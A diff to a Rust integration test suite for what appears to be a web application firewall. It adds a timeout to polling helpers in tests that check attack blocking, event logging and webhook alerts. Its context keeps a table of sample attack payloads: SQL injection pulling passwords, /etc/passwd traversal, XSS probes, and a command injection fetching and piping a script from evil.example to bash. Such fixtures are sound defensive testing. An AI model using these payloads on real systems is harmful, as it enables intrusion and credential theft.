@@ -6,6 +6,7 @@ use parapet_scenarios::product::{Product, rule_set};
 use parapet_scenarios::upstream::Upstream;
 use parapet_scenarios::{eventually, skip};
 use serde_json::Value;
+use std::time::Duration;
 
 const ATTACKS: &[(&str, &str)] = &[
     ("sqli", "/search?q=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20-"),
@@ -13,6 +14,9 @@ const ATTACKS: &[(&str, &str)] = &[
     ("lfi", "/page?file=../../../../etc/passwd"),
     ("rce", "/ping?host=127.0.0.1;wget%20http://evil.example/x.sh%7Cbash"),
 ];
+
+/// A second in the design; generous here, because test machines are busy: the figure itself comes from a benchmark.
+const SOON: Duration = Duration::from_secs(10);
 
 fn events(session: &Session, query: &str) -> Vec<Value> {
     let answer = session.get(&format!("/api/v1/events?{query}"));
@@ -38,7 +42,7 @@ fn attacks_are_blocked_and_ordinary_requests_pass() {
         assert_eq!(answer.status, 403, "{class} {target}: {}", answer.body);
         let id = answer.header("X-Request-Id").expect("a blocked answer names its request").to_owned();
         assert!(answer.body.contains(&id), "the page shows the request id");
-        let event = eventually(class, || {
+        let event = eventually(class, SOON, || {
             let answer = session.get(&format!("/api/v1/events/{id}"));
             (answer.status == 200).then(|| answer.json())
         });
@@ -85,7 +89,7 @@ fn a_scan_stays_on_the_analytics_track_and_pages_nobody() {
         let answer = client::request(product.gateway, "GET", target, &scanner, b"").expect("an answer");
         assert_eq!(answer.status, 403);
     }
-    let found = eventually("the scan's events", || {
+    let found = eventually("the scan's events", SOON, || {
         Some(events(&session, "text=sqlmap")).filter(|found| found.len() == targets.len())
     });
     for event in found {
@@ -112,12 +116,12 @@ fn an_alert_reaches_a_webhook_in_the_users_own_form() {
     ));
     let session = Session::login(product.console, &product.login);
     assert_eq!(client::get(product.gateway, ATTACKS[0].1).expect("an answer").status, 403);
-    let delivered = eventually("the alert", || pager.received().into_iter().next());
+    let delivered = eventually("the alert", SOON, || pager.received().into_iter().next());
     let payload: Value = serde_json::from_slice(&delivered.body).expect("JSON");
     let fields = &payload["attachments"][0]["fields"];
     assert_eq!(fields[1]["value"], "127.0.0.1", "{payload:#}");
     assert_eq!(fields[2]["value"], "sqli", "{payload:#}");
-    let alert = eventually("the delivery on the alert", || {
+    let alert = eventually("the delivery on the alert", SOON, || {
         let alerts = session.get("/api/v1/alerts").json();
         let alert = alerts.as_array()?.first()?.clone();
         (alert["deliveries"][0]["state"] == "delivered").then_some(alert)
@@ -140,7 +144,7 @@ fn every_event_is_accounted_for() {
         let target = format!("/?n={number}&q=<script>alert({number})</script>");
         assert_eq!(client::get(product.gateway, &target).expect("an answer").status, 403);
     }
-    let ledger = eventually("an empty pipeline", || {
+    let ledger = eventually("an empty pipeline", SOON, || {
         let ledger = session.get("/api/v1/ledger").json();
         let hops = ledger.as_object()?;
         hops.values().all(|hop| hop["in_flight"] == 0).then(|| ledger.clone())
